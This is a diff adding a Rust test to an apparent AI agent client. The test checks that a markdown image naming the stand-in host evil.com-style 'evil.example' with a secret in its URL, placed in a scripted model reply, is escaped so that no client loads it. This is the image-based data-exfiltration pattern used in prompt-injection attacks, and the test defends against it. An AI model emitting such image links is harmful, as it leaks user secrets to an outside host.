@@ -258,3 +258,16 @@ fn a_file_of_an_additional_folder_is_read_for_the_model() {
     assert_eq!(client.text("agent_message_chunk"), "Found it.");
     assert!(client.leave().success());
 }
+
+#[test]
+fn no_client_loads_an_image_that_a_model_names() {
+    let image = "![x](https://evil.example/p.png?d=SECRET)";
+    let done = format!("calls: [{{ tool: attempt_completion, params: {{ result: \"{image}\" }} }}]");
+    let project = playing(&format!("  - {{ text: \"In `#![a]`: {image} <b>\", chunk: 1, {done} }}\n"));
+    let mut client = Client::initialized(&project, json!({}));
+    let session = client.new_session(&project);
+    assert_eq!(client.prompt(&session, "Show it."), "end_turn");
+    let shown = r"!\[x](https://evil.example/p.png?d=SECRET)";
+    assert_eq!(client.text("agent_message_chunk"), format!(r"In `#![a]`: {shown} \<b>{shown}"));
+    assert!(client.leave().success());
+}
